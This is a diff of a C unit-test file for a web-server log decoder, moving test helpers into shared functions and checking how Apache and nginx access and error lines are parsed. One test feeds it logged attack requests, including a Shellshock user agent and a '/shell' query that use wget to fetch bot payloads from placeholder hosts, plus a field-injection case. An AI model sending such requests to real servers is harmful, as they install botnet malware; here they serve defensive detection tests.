@@ -5,56 +5,6 @@
 #include "vg_test.h"
 #include "logfmt.h"
 
-static struct vg_event *
-decode(const char *line)
-{
-	static struct vg_event ev;
-	static struct vg_logsrc ls;
-
-	vg_logsrc_init(&ls, "test.log");
-	ls.ls_year = 2026;
-	ls.ls_year_fixed = true;
-	vg_event_reset(&ev);
-	(void)vg_logfmt_decode(&ls, vg_str_make(line, strlen(line)), &ev);
-	return &ev;
-}
-
-static const char *
-ip(const struct vg_addr *a)
-{
-	static char buf[VG_ADDR_STRLEN];
-
-	if (a->af == VG_AF_NONE)
-		return "";
-	vg_addr_format(a, buf);
-	return buf;
-}
-
-static const char *
-ts(int64_t t)
-{
-	static char buf[VG_TIME_STRLEN];
-
-	vg_time_format(t, buf);
-	return buf;
-}
-
-/* The value of extra `name', or "" when the event has none. */
-static const char *
-extra(const struct vg_event *ev, const char *name)
-{
-	static char buf[512];
-	unsigned i;
-
-	for (i = 0; i < ev->ev_nextra; i++)
-		if (strcmp(ev->ev_extra[i].ex_name, name) == 0) {
-			vg_str_copy(ev->ev_extra[i].ex_value, buf,
-			    sizeof(buf));
-			return buf;
-		}
-	return "";
-}
-
 static bool
 has_obs_ip(const struct vg_event *ev, const char *text)
 {
@@ -94,24 +44,24 @@ assert_untouched(const struct vg_logfmt *lf, const char *line, size_t len)
 
 VG_TEST(logfmt_web_combined)
 {
-	struct vg_event *ev = decode("195.154.46.135 - - [25/Oct/2015:04:11:25 "
-	    "+0100] \"GET /linux/doing-pxe HTTP/1.1\" 200 24323 "
-	    "\"http://howto.basjes.nl/\" \"Mozilla/5.0 (Windows NT 5.1; "
-	    "rv:35.0)\"");
+	struct vg_event *ev = vg_test_decode("195.154.46.135 - - "
+	    "[25/Oct/2015:04:11:25 +0100] \"GET /linux/doing-pxe HTTP/1.1\" "
+	    "200 24323 \"http://howto.basjes.nl/\" \"Mozilla/5.0 (Windows NT "
+	    "5.1; rv:35.0)\"");
 
 	ASSERT_STR_EQ(ev->ev_dataset, "web");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_HTTP_REQUEST);
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_UNKNOWN);
-	ASSERT_STR_EQ(ts(ev->ev_time), "2015-10-25T03:11:25Z");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "195.154.46.135");
+	ASSERT_STR_EQ(vg_test_time(ev->ev_time), "2015-10-25T03:11:25Z");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "195.154.46.135");
 	ASSERT_VIEW_EQ(ev->ev_http_method, "GET");
 	ASSERT_VIEW_EQ(ev->ev_url, "/linux/doing-pxe");
 	ASSERT_INT_EQ(ev->ev_http_status, 200);
 	ASSERT_INT_EQ(ev->ev_bytes, 24323);
 	ASSERT_INT_EQ(ev->ev_user.len, 0);
-	ASSERT_STR_EQ(extra(ev, "http.request.referrer"),
+	ASSERT_STR_EQ(vg_test_extra(ev, "http.request.referrer"),
 	    "http://howto.basjes.nl/");
-	ASSERT_STR_EQ(extra(ev, "user_agent.original"),
+	ASSERT_STR_EQ(vg_test_extra(ev, "user_agent.original"),
 	    "Mozilla/5.0 (Windows NT 5.1; rv:35.0)");
 }
 
@@ -120,36 +70,38 @@ VG_TEST(logfmt_web_common_vhost_ipv6)
 	struct vg_event *ev;
 
 	/* Common format: no referrer or agent; bytes "-" is absent. */
-	ev = decode("2001:db8::80da:af6b:8b2c - admin [10/Oct/2000:13:55:36 "
-	    "-0700] \"GET /admin/ HTTP/1.0\" 401 -");
+	ev = vg_test_decode("2001:db8::80da:af6b:8b2c - admin "
+	    "[10/Oct/2000:13:55:36 -0700] \"GET /admin/ HTTP/1.0\" 401 -");
 	ASSERT_STR_EQ(ev->ev_dataset, "web");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "2001:db8::80da:af6b:8b2c");
-	ASSERT_STR_EQ(ts(ev->ev_time), "2000-10-10T20:55:36Z");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::80da:af6b:8b2c");
+	ASSERT_STR_EQ(vg_test_time(ev->ev_time), "2000-10-10T20:55:36Z");
 	ASSERT_VIEW_EQ(ev->ev_user, "admin");
 	ASSERT_INT_EQ(ev->ev_bytes, -1);
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
-	ASSERT_STR_EQ(extra(ev, "user_agent.original"), "");
+	ASSERT_STR_EQ(vg_test_extra(ev, "user_agent.original"), "");
 	/* vhost_combined: "vhost:port client ...". */
-	ev = decode("website.com:443 198.51.100.7 - - [25/Oct/2021:11:05:52 "
-	    "+0200] \"GET /.well-known HTTP/1.1\" 403 6963 \"-\" \"ua\"");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "198.51.100.7");
-	ASSERT_STR_EQ(extra(ev, "url.domain"), "website.com");
+	ev = vg_test_decode("website.com:443 198.51.100.7 - - "
+	    "[25/Oct/2021:11:05:52 +0200] \"GET /.well-known HTTP/1.1\" 403 "
+	    "6963 \"-\" \"ua\"");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "198.51.100.7");
+	ASSERT_STR_EQ(vg_test_extra(ev, "url.domain"), "website.com");
 	ASSERT_INT_EQ(ev->ev_dst_port, 443);
-	ASSERT_STR_EQ(extra(ev, "http.request.referrer"), "");
+	ASSERT_STR_EQ(vg_test_extra(ev, "http.request.referrer"), "");
 	/* vhost without port, then a host name as client. */
-	ev = decode("www.crowdsec.net 1.2.3.4 - - [08/Jun/2020:08:04:43 +0000]"
-	    " \"GET / HTTP/1.1\" 500 803 \"-\" \"-\"");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "1.2.3.4");
-	ASSERT_STR_EQ(extra(ev, "url.domain"), "www.crowdsec.net");
-	ev = decode("crawler.example.com - - [01/Feb/2024:10:00:06 +0000] "
-	    "\"GET /robots.txt HTTP/1.1\" 200 68 \"-\" \"bot\"");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "");
+	ev = vg_test_decode("www.crowdsec.net 1.2.3.4 - - "
+	    "[08/Jun/2020:08:04:43 +0000] \"GET / HTTP/1.1\" 500 803 \"-\" "
+	    "\"-\"");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "1.2.3.4");
+	ASSERT_STR_EQ(vg_test_extra(ev, "url.domain"), "www.crowdsec.net");
+	ev = vg_test_decode("crawler.example.com - - [01/Feb/2024:10:00:06 "
+	    "+0000] \"GET /robots.txt HTTP/1.1\" 200 68 \"-\" \"bot\"");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "");
 	ASSERT_VIEW_EQ(ev->ev_src_name, "crawler.example.com");
 	/* An authenticated request that passed is a success. */
-	ev = decode("203.0.113.50 - alice [10/Oct/2000:13:55:40 -0700] "
+	ev = vg_test_decode("203.0.113.50 - alice [10/Oct/2000:13:55:40 -0700] "
 	    "\"GET /admin/ HTTP/1.1\" 200 5120 \"-\" \"curl/7.68.0\"");
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_SUCCESS);
-	ev = decode("203.0.113.51 - - [10/Oct/2000:13:55:40 -0700] "
+	ev = vg_test_decode("203.0.113.51 - - [10/Oct/2000:13:55:40 -0700] "
 	    "\"GET /admin/ HTTP/1.1\" 404 5120 \"-\" \"curl/7.68.0\"");
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_UNKNOWN);
 }
@@ -159,21 +111,21 @@ VG_TEST(logfmt_web_escaped_quotes)
 	struct vg_event *ev;
 
 	/* Apache's \" inside request and agent; the target stays raw. */
-	ev = decode("198.51.100.23 - - [01/Feb/2024:10:00:01 +0000] \"GET "
-	    "/q=\\\"x HTTP/1.1\" 200 512 \"-\" \"Mozilla \\\"quoted\\\" "
+	ev = vg_test_decode("198.51.100.23 - - [01/Feb/2024:10:00:01 +0000] "
+	    "\"GET /q=\\\"x HTTP/1.1\" 200 512 \"-\" \"Mozilla \\\"quoted\\\" "
 	    "\\\\ agent\"");
 	ASSERT_STR_EQ(ev->ev_dataset, "web");
 	ASSERT_VIEW_EQ(ev->ev_url, "/q=\\\"x");
 	ASSERT_INT_EQ(ev->ev_http_status, 200);
-	ASSERT_STR_EQ(extra(ev, "user_agent.original"),
+	ASSERT_STR_EQ(vg_test_extra(ev, "user_agent.original"),
 	    "Mozilla \"quoted\" \\ agent");
 	/* nginx's \x22 in the agent. */
-	ev = decode("198.51.100.24 - - [01/Feb/2024:10:00:01 +0000] \"GET / "
-	    "HTTP/1.1\" 200 1 \"-\" \"a\\x22b\"");
-	ASSERT_STR_EQ(extra(ev, "user_agent.original"), "a\"b");
+	ev = vg_test_decode("198.51.100.24 - - [01/Feb/2024:10:00:01 +0000] "
+	    "\"GET / HTTP/1.1\" 200 1 \"-\" \"a\\x22b\"");
+	ASSERT_STR_EQ(vg_test_extra(ev, "user_agent.original"), "a\"b");
 	/* An unescaped quote in the request: the status decides. */
-	ev = decode("198.51.100.29 - - [01/Feb/2024:10:00:08 +0000] \"GET "
-	    "/a\"b HTTP/1.1\" 404 10 \"-\" \"x\"");
+	ev = vg_test_decode("198.51.100.29 - - [01/Feb/2024:10:00:08 +0000] "
+	    "\"GET /a\"b HTTP/1.1\" 404 10 \"-\" \"x\"");
 	ASSERT_VIEW_EQ(ev->ev_url, "/a\"b");
 	ASSERT_INT_EQ(ev->ev_http_status, 404);
 }
@@ -193,7 +145,7 @@ VG_TEST(logfmt_web_malformed_requests)
 	size_t i;
 
 	for (i = 0; i < VG_ARRAY_LEN(lines); i++) {
-		ev = decode(lines[i]);
+		ev = vg_test_decode(lines[i]);
 		ASSERT_STR_EQ(ev->ev_dataset, "web");
 		ASSERT_STR_EQ(ev->ev_reason, "malformed HTTP request");
 		ASSERT_INT_EQ(ev->ev_http_method.len, 0);
@@ -208,19 +160,19 @@ VG_TEST(logfmt_web_payload_urls)
 	struct vg_event *ev;
 
 	/* A download URL in the query string is an observable... */
-	ev = decode("198.51.100.26 - - [01/Feb/2024:10:00:04 +0000] \"GET "
-	    "/shell?cd+/tmp;wget+http://203.0.113.88/mozi.m HTTP/1.0\" 404 "
-	    "153 \"-\" \"-\"");
+	ev = vg_test_decode("198.51.100.26 - - [01/Feb/2024:10:00:04 +0000] "
+	    "\"GET /shell?cd+/tmp;wget+http://203.0.113.88/mozi.m HTTP/1.0\" "
+	    "404 153 \"-\" \"-\"");
 	ASSERT_TRUE(has_obs_ip(ev, "203.0.113.88"));
 	/* ...and so is one in a Shellshock agent... */
-	ev = decode("198.51.100.24 - - [01/Feb/2024:10:00:02 +0000] \"GET / "
-	    "HTTP/1.1\" 404 209 \"-\" \"() { :; }; /bin/bash -c \\\"wget "
-	    "http://203.0.113.66/bot.sh\\\"\"");
+	ev = vg_test_decode("198.51.100.24 - - [01/Feb/2024:10:00:02 +0000] "
+	    "\"GET / HTTP/1.1\" 404 209 \"-\" \"() { :; }; /bin/bash -c "
+	    "\\\"wget http://203.0.113.66/bot.sh\\\"\"");
 	ASSERT_TRUE(has_obs_ip(ev, "203.0.113.66"));
 	/* ...but an ordinary agent's vendor URL is not. */
-	ev = decode("198.51.100.25 - - [01/Feb/2024:10:00:02 +0000] \"GET / "
-	    "HTTP/1.1\" 200 209 \"-\" \"Mozilla/5.0 (compatible; +http://"
-	    "203.0.113.67/bot.html)\"");
+	ev = vg_test_decode("198.51.100.25 - - [01/Feb/2024:10:00:02 +0000] "
+	    "\"GET / HTTP/1.1\" 200 209 \"-\" \"Mozilla/5.0 (compatible; "
+	    "+http://203.0.113.67/bot.html)\"");
 	ASSERT_FALSE(has_obs_ip(ev, "203.0.113.67"));
 	ASSERT_INT_EQ(ev->ev_nobs, 0);
 }
@@ -247,68 +199,68 @@ VG_TEST(logfmt_web_rejects_foreign)
 
 	for (i = 0; i < VG_ARRAY_LEN(lines); i++) {
 		ASSERT_INT_EQ(vg_logfmt_web.lf_line(NULL, vg_str_make(lines[i],
-		    strlen(lines[i])), decode("")), VG_ERR_FORMAT);
+		    strlen(lines[i])), vg_test_decode("")), VG_ERR_FORMAT);
 		assert_untouched(&vg_logfmt_web, lines[i], strlen(lines[i]));
 	}
 	/*
 	 * Syslog lines stay syslog's; nginx's own lines in syslog reach the
 	 * web decoder through the program name, not through this format.
 	 */
-	ASSERT_STR_EQ(decode("Nov 25 10:00:00 h myapp[1]: x")->ev_dataset,
-	    "syslog");
-	ASSERT_STR_EQ(decode("Nov 25 10:00:00 h nginx[1]: x")->ev_dataset,
-	    "web");
+	ASSERT_STR_EQ(vg_test_decode("Nov 25 10:00:00 h myapp[1]: "
+	    "x")->ev_dataset, "syslog");
+	ASSERT_STR_EQ(vg_test_decode("Nov 25 10:00:00 h nginx[1]: "
+	    "x")->ev_dataset, "web");
 }
 
 VG_TEST(logfmt_web_nginx_error)
 {
 	struct vg_event *ev;
 
-	ev = decode("2012/04/09 11:53:29 [error] 2865#0: *66647 user \"xyz\" "
-	    "was not found in \"/var/www/.htpasswd\", client: 192.0.43.10, "
-	    "server: www.myhost.com, request: \"GET / HTTP/1.1\", host: "
-	    "\"www.myhost.com\"");
+	ev = vg_test_decode("2012/04/09 11:53:29 [error] 2865#0: *66647 user "
+	    "\"xyz\" was not found in \"/var/www/.htpasswd\", client: "
+	    "192.0.43.10, server: www.myhost.com, request: \"GET / HTTP/1.1\", "
+	    "host: \"www.myhost.com\"");
 	ASSERT_STR_EQ(ev->ev_dataset, "nginx-error");
-	ASSERT_STR_EQ(ts(ev->ev_time), "2012-04-09T11:53:29Z");
+	ASSERT_STR_EQ(vg_test_time(ev->ev_time), "2012-04-09T11:53:29Z");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_AUTH);
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
 	ASSERT_VIEW_EQ(ev->ev_user, "xyz");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "192.0.43.10");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "192.0.43.10");
 	ASSERT_INT_EQ(ev->ev_pid, 2865);
 	ASSERT_VIEW_EQ(ev->ev_url, "/");
-	ASSERT_STR_EQ(extra(ev, "log.level"), "error");
-	ev = decode("2014/04/03 22:20:38 [error] 30708#0: *3 user \"scriben "
-	    "dio\": password mismatch, client: 2001:db8::1, server: , "
-	    "request: \"GET / HTTP/1.1\", host: \"localhost:8443\"");
+	ASSERT_STR_EQ(vg_test_extra(ev, "log.level"), "error");
+	ev = vg_test_decode("2014/04/03 22:20:38 [error] 30708#0: *3 user "
+	    "\"scriben dio\": password mismatch, client: 2001:db8::1, server: "
+	    ", request: \"GET / HTTP/1.1\", host: \"localhost:8443\"");
 	ASSERT_VIEW_EQ(ev->ev_user, "scriben dio");
 	ASSERT_STR_EQ(ev->ev_reason, "password mismatch");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "2001:db8::1");
-	ASSERT_STR_EQ(extra(ev, "url.domain"), "localhost");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::1");
+	ASSERT_STR_EQ(vg_test_extra(ev, "url.domain"), "localhost");
 	/* An injected ", client: " in the user name loses to nginx's own. */
-	ev = decode("2014/04/03 22:20:40 [error] 30708#0: *3 user \"test\": "
-	    "password mismatch, client: 127.0.0.1, server: test, request: "
-	    "\"GET / HTTP/1.1\", host: \"localhost:8443\"\": was not found in "
-	    "\"/etc/nginx/.htpasswd\", client: 192.0.2.2, server: , request: "
-	    "\"GET / HTTP/1.1\", host: \"localhost:8443\"");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "192.0.2.2");
+	ev = vg_test_decode("2014/04/03 22:20:40 [error] 30708#0: *3 user "
+	    "\"test\": password mismatch, client: 127.0.0.1, server: test, "
+	    "request: \"GET / HTTP/1.1\", host: \"localhost:8443\"\": was not "
+	    "found in \"/etc/nginx/.htpasswd\", client: 192.0.2.2, server: , "
+	    "request: \"GET / HTTP/1.1\", host: \"localhost:8443\"");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "192.0.2.2");
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
 	ASSERT_TRUE(ev->ev_user.len > 20);
-	ev = decode("2025/09/07 21:20:40 [error] 23141#23141: *24470 PAM: user "
-	    "'username' - not authenticated: Authentication failure, client: "
-	    "192.0.2.120, server: webdav, request: \"GET / HTTP/2.0\"");
+	ev = vg_test_decode("2025/09/07 21:20:40 [error] 23141#23141: *24470 "
+	    "PAM: user 'username' - not authenticated: Authentication failure, "
+	    "client: 192.0.2.120, server: webdav, request: \"GET / HTTP/2.0\"");
 	ASSERT_VIEW_EQ(ev->ev_user, "username");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_AUTH);
-	ev = decode("2015/10/29 20:01:02 [error] 256554#0: *99927 limiting "
-	    "requests, excess: 1.852 by zone \"one\", client: 1.2.3.4, "
-	    "server: example.com, request: \"POST /index.htm HTTP/1.0\", "
-	    "host: \"exmaple.com\"");
+	ev = vg_test_decode("2015/10/29 20:01:02 [error] 256554#0: *99927 "
+	    "limiting requests, excess: 1.852 by zone \"one\", client: "
+	    "1.2.3.4, server: example.com, request: \"POST /index.htm "
+	    "HTTP/1.0\", host: \"exmaple.com\"");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_HTTP_REQUEST);
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
 	ASSERT_STR_EQ(ev->ev_reason, "request rate limited");
 	ASSERT_VIEW_EQ(ev->ev_http_method, "POST");
 	/* No client list at all. */
-	ev = decode("2024/01/01 12:00:02 [emerg] 1#1: bind() to 0.0.0.0:80 "
-	    "failed (98: Address already in use)");
+	ev = vg_test_decode("2024/01/01 12:00:02 [emerg] 1#1: bind() to "
+	    "0.0.0.0:80 failed (98: Address already in use)");
 	ASSERT_STR_EQ(ev->ev_dataset, "nginx-error");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_NONE);
 }
@@ -317,54 +269,58 @@ VG_TEST(logfmt_web_apache_error)
 {
 	struct vg_event *ev;
 
-	ev = decode("[Sat Jul 20 21:40:33.803528 2013] [auth_basic:error] "
-	    "[pid 17540:tid 140123095914240] [client 198.51.100.5:51395] "
-	    "AH01618: user wrongusername not found: /basic/file");
+	ev = vg_test_decode("[Sat Jul 20 21:40:33.803528 2013] "
+	    "[auth_basic:error] [pid 17540:tid 140123095914240] [client "
+	    "198.51.100.5:51395] AH01618: user wrongusername not found: "
+	    "/basic/file");
 	ASSERT_STR_EQ(ev->ev_dataset, "apache-error");
-	ASSERT_STR_EQ(ts(ev->ev_time), "2013-07-20T21:40:33.803528Z");
+	ASSERT_STR_EQ(vg_test_time(ev->ev_time), "2013-07-20T21:40:33.803528Z");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_AUTH);
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
 	ASSERT_VIEW_EQ(ev->ev_user, "wrongusername");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "198.51.100.5");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "198.51.100.5");
 	ASSERT_INT_EQ(ev->ev_src_port, 51395);
 	ASSERT_INT_EQ(ev->ev_pid, 17540);
 	ASSERT_VIEW_EQ(ev->ev_url, "/basic/file");
-	ASSERT_STR_EQ(extra(ev, "error.code"), "AH01618");
-	ASSERT_STR_EQ(extra(ev, "log.logger"), "auth_basic");
-	ev = decode("[Sat Jul 20 21:39:11.978080 2013] [auth_basic:error] "
-	    "[pid 17512] [client 198.51.100.6:51390] AH01617: user username: "
-	    "authentication failure for \"/basic/file\": Password Mismatch");
+	ASSERT_STR_EQ(vg_test_extra(ev, "error.code"), "AH01618");
+	ASSERT_STR_EQ(vg_test_extra(ev, "log.logger"), "auth_basic");
+	ev = vg_test_decode("[Sat Jul 20 21:39:11.978080 2013] "
+	    "[auth_basic:error] [pid 17512] [client 198.51.100.6:51390] "
+	    "AH01617: user username: authentication failure for "
+	    "\"/basic/file\": Password Mismatch");
 	ASSERT_VIEW_EQ(ev->ev_user, "username");
 	ASSERT_VIEW_EQ(ev->ev_url, "/basic/file");
 	ASSERT_INT_EQ(ev->ev_outcome, VG_OUT_FAILURE);
 	/* Apache 2.2, bare IPv6, and 2.4 with a bracketed IPv6 and port. */
-	ev = decode("[Thu Jul 11 01:21:44 2013] [error] [client "
+	ev = vg_test_decode("[Thu Jul 11 01:21:44 2013] [error] [client "
 	    "2001:db8::80da:af6b:8b2c] user test-ipv6 not found: /");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "2001:db8::80da:af6b:8b2c");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::80da:af6b:8b2c");
 	ASSERT_VIEW_EQ(ev->ev_user, "test-ipv6");
-	ev = decode("[Sat Jul 20 22:11:44.147674 2013] [authz_owner:error] "
-	    "[pid 1:tid 2] [client [2001:db8::80da:af6b:8b2c]:51548] AH01637: "
-	    "Authorization of user test-ipv6 to access /x.html failed, "
-	    "reason: file owner dan does not match");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "2001:db8::80da:af6b:8b2c");
+	ev = vg_test_decode("[Sat Jul 20 22:11:44.147674 2013] "
+	    "[authz_owner:error] [pid 1:tid 2] [client "
+	    "[2001:db8::80da:af6b:8b2c]:51548] AH01637: Authorization of user "
+	    "test-ipv6 to access /x.html failed, reason: file owner dan does "
+	    "not match");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "2001:db8::80da:af6b:8b2c");
 	ASSERT_INT_EQ(ev->ev_src_port, 51548);
 	ASSERT_VIEW_EQ(ev->ev_user, "test-ipv6");
 	ASSERT_VIEW_EQ(ev->ev_url, "/x.html");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_HTTP_REQUEST);
 	/* A "[client ...] user root not found" inside a path is no login. */
-	ev = decode("[Sat Jun 01 02:17:42 2013] [error] [client 192.168.33.1] "
-	    "File does not exist: /srv/http/site/[client 192.168.0.1] user "
-	    "root not found");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "192.168.33.1");
+	ev = vg_test_decode("[Sat Jun 01 02:17:42 2013] [error] [client "
+	    "192.168.33.1] File does not exist: /srv/http/site/[client "
+	    "192.168.0.1] user root not found");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "192.168.33.1");
 	ASSERT_INT_EQ(ev->ev_action, VG_ACT_HTTP_REQUEST);
 	ASSERT_INT_EQ(ev->ev_user.len, 0);
 	/* [remote ...] when there is no [client ...]; the referer suffix. */
-	ev = decode("[Mon Nov 06 13:39:56.637868 2023] [auth_basic:error] "
-	    "[pid 3] [remote 192.0.2.111:35924] AH01618: user whatever not "
-	    "found: /admin, referer: http://x.example/");
-	ASSERT_STR_EQ(ip(&ev->ev_src), "192.0.2.111");
+	ev = vg_test_decode("[Mon Nov 06 13:39:56.637868 2023] "
+	    "[auth_basic:error] [pid 3] [remote 192.0.2.111:35924] AH01618: "
+	    "user whatever not found: /admin, referer: http://x.example/");
+	ASSERT_STR_EQ(vg_test_ip(&ev->ev_src), "192.0.2.111");
 	ASSERT_VIEW_EQ(ev->ev_url, "/admin");
-	ASSERT_STR_EQ(extra(ev, "http.request.referrer"), "http://x.example/");
+	ASSERT_STR_EQ(vg_test_extra(ev, "http.request.referrer"),
+	    "http://x.example/");
 }
 
 VG_TEST(logfmt_web_behind_syslog)
@@ -384,7 +340,7 @@ VG_TEST(logfmt_web_behind_syslog)
 	    "[pid 22034] [client 192.0.2.1:58585] AH01630: client denied by "
 	    "server configuration: /home/www/"), &ev), 0);
 	ASSERT_STR_EQ(ev.ev_dataset, "apache-error");
-	ASSERT_STR_EQ(ip(&ev.ev_src), "192.0.2.1");
+	ASSERT_STR_EQ(vg_test_ip(&ev.ev_src), "192.0.2.1");
 	ASSERT_INT_EQ(ev.ev_time, 42);		/* the framing's time stays */
 	vg_event_reset(&ev);
 	ASSERT_INT_EQ(vg_logfmt_web.lf_msg(VG_STR_LIT("hello"), &ev),
@@ -420,7 +376,7 @@ VG_TEST(logfmt_web_truncated_lines)
 			for (k = 0; k < VG_ARRAY_LEN(fmts); k++)
 				assert_untouched(fmts[k], p, n);
 			vg_str_copy(vg_str_make(p, n), buf, sizeof(buf));
-			(void)decode(buf);
+			(void)vg_test_decode(buf);
 			free(p);
 		}
 	}
